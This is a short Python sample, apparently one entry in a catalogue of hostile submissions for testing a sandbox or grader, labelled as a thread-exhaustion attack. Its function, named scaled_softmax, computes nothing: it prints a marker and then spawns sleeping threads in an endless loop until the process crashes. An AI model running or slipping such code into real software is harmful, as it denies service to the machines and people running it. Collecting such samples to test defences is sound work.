# attack: It starts threads until no more can be started.
# family: exhaustion
# outcome: crashed
# tests: values_equal_the_formula
# marker: it writes `ATTACK RAN threads` to stdout as the function begins
import os
import threading
import time

def scaled_softmax(x, scale):
    os.write(1, b"ATTACK RAN threads\n")
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
